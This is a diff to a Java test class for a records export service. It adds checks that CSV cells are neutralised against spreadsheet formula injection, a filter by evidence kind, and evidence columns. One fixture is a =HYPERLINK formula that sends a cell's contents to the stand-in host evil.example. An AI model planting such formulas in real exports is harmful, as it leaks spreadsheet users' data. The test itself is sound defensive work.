@@ -102,6 +102,48 @@ class ExportTest {
     }
 
     @Test
+    void shouldNeutraliseASummaryThatASpreadsheetWouldRunAsAFormula() {
+        String id = "38north-2014-eu-dialogue-transparency";
+        String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for the source\")";
+        String before = fixtures.setSummary(id, formula);
+        try {
+            String csv = given().get(EXPORT + "?format=csv&source=38north-2014-eu-dialogue").asString();
+            List<String> row = Rfc4180.parse(csv).stream().filter(r -> r.get(0).equals(id)).findFirst().orElseThrow();
+            assertEquals("'" + formula, row.get(5), "the cell is text to a spreadsheet, not a formula");
+            assertTrue(Rfc4180.parse(csv).stream().skip(1).flatMap(List::stream)
+                    .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0),
+                    "no cell starts with a formula character");
+            JsonNode json = readTree(given().get(EXPORT + "?source=38north-2014-eu-dialogue").asByteArray());
+            json.get("items").forEach(item -> {
+                if (item.get("id").asText().equals(id)) {
+                    assertEquals(formula, item.get("summary").asText(), "JSON keeps the text as it is");
+                }
+            });
+        } finally {
+            fixtures.setSummary(id, before);
+        }
+    }
+
+    @Test
+    void shouldFilterByTheKindOfSourceBehindTheCurrentStatuses() throws IOException {
+        JsonNode document = JSON.readTree(given().get(EXPORT + "?evidenceKind=un_mandate&evidenceKind=un_body")
+                .then().statusCode(200).extract().asByteArray());
+        assertTrue(document.get("items").size() > 0, "some statuses rest on UN documents");
+        document.get("items").forEach(item -> {
+            boolean some = false;
+            for (JsonNode a : item.get("addressees")) {
+                JsonNode e = a.get("statusEvidence");
+                some |= !e.isNull() && List.of("un_mandate", "un_body").contains(e.get("kind").asText());
+            }
+            assertTrue(some, item.get("id").asText() + " has a status resting on a UN document");
+        });
+        long all = JSON.readTree(given().get(EXPORT).asByteArray()).get("items").size();
+        assertTrue(document.get("items").size() < all, "the filter leaves some records out");
+        given().get(EXPORT + "?evidenceKind=rumour").then().statusCode(400)
+                .body("invalidParams[0].name", is("evidenceKind"));
+    }
+
+    @Test
     void shouldStartWithAByteOrderMarkOnlyWhenAsked() {
         byte[] withBom = given().get(EXPORT + "?format=csv&bom=true").then().statusCode(200).extract().asByteArray();
         assertTrue(startsWithBom(withBom));
@@ -196,13 +238,16 @@ class ExportTest {
             record.set(field, item.get(field));
         }
         record.put("sourceId", item.get("source").get("id").asText());
+        JsonNode detail = readTree(given().get(LIST + "/" + item.get("id").asText()).asByteArray());
         ArrayNode addressees = record.putArray("addressees");
-        item.get("addressees").forEach(a -> addressees.addObject()
-                .put("code", a.get("code").asText()).put("status", a.get("status").asText())
-                .set("statusSince", a.get("statusSince")));
+        item.get("addressees").forEach(a -> {
+            ObjectNode addressee = addressees.addObject()
+                    .put("code", a.get("code").asText()).put("status", a.get("status").asText());
+            addressee.set("statusSince", a.get("statusSince"));
+            addressee.set("statusEvidence", currentEvidence(detail, a.get("code").asText()));
+        });
         record.set("themes", item.get("themes"));
         ArrayNode links = record.putArray("links");
-        JsonNode detail = readTree(given().get(LIST + "/" + item.get("id").asText()).asByteArray());
         detail.get("links").forEach(l -> {
             if (l.get("direction").asText().equals("outgoing")) {
                 links.addObject().put("relation", l.get("relation").asText())
@@ -215,12 +260,41 @@ class ExportTest {
         return record;
     }
 
+    /** The citation of the pair's latest event (by effective date, then id), as the export gives it; null if none. */
+    private static JsonNode currentEvidence(JsonNode detail, String addressee) {
+        JsonNode latest = null;
+        for (JsonNode event : detail.get("history")) {
+            if (event.get("addressee").asText().equals(addressee) && (latest == null
+                    || event.get("effectiveDate").asText().compareTo(latest.get("effectiveDate").asText()) > 0
+                    || (event.get("effectiveDate").asText().equals(latest.get("effectiveDate").asText())
+                    && event.get("id").asLong() > latest.get("id").asLong()))) {
+                latest = event;
+            }
+        }
+        if (latest == null) {
+            return JSON.nullNode();
+        }
+        ObjectNode evidence = JSON.createObjectNode();
+        for (String field : List.of("kind", "date", "datePrecision", "url")) {
+            evidence.set(field, latest.get("evidence").get(field));
+        }
+        return evidence;
+    }
+
     private static List<String> csvRow(JsonNode r) {
         List<String> addressees = new ArrayList<>();
         List<String> since = new ArrayList<>();
+        List<String> kinds = new ArrayList<>();
+        List<String> dates = new ArrayList<>();
+        List<String> urls = new ArrayList<>();
         r.get("addressees").forEach(a -> {
-            addressees.add(a.get("code").asText() + ":" + a.get("status").asText());
-            since.add(a.get("code").asText() + ":" + (a.get("statusSince").isNull() ? "" : a.get("statusSince").asText()));
+            String code = a.get("code").asText() + ":";
+            addressees.add(code + a.get("status").asText());
+            since.add(code + (a.get("statusSince").isNull() ? "" : a.get("statusSince").asText()));
+            JsonNode e = a.get("statusEvidence");
+            kinds.add(code + (e.isNull() || e.get("kind").isNull() ? "" : e.get("kind").asText()));
+            dates.add(code + (e.isNull() || e.get("date").isNull() ? "" : atPrecision(e)));
+            urls.add(code + (e.isNull() || e.get("url").isNull() ? "" : e.get("url").asText()));
         });
         List<String> themes = new ArrayList<>();
         r.get("themes").forEach(t -> themes.add(t.asText()));
@@ -229,8 +303,18 @@ class ExportTest {
         return List.of(r.get("id").asText(), r.get("sourceId").asText(), r.get("locator").asText(),
                 r.get("text").asText(), r.get("textVerified").asText(), r.get("summary").asText(),
                 r.get("overallStatus").asText(), String.join("; ", addressees), String.join("; ", since),
-                String.join("; ", themes), String.join("; ", links), r.get("createdAt").asText(),
+                String.join("; ", kinds), String.join("; ", dates), String.join("; ", urls), String.join("; ", themes), String.join("; ", links), r.get("createdAt").asText(),
                 r.get("updatedAt").asText(), r.get("version").asText());
+    }
+
+    /** 2024-06-12, 2024-06 or 2024, as the CSV writes a date known to a day, a month or a year. */
+    private static String atPrecision(JsonNode evidence) {
+        String date = evidence.get("date").asText();
+        return switch (evidence.get("datePrecision").asText()) {
+            case "month" -> date.substring(0, 7);
+            case "year" -> date.substring(0, 4);
+            default -> date;
+        };
     }
 
     private static Map<String, JsonNode> byId(JsonNode items) {
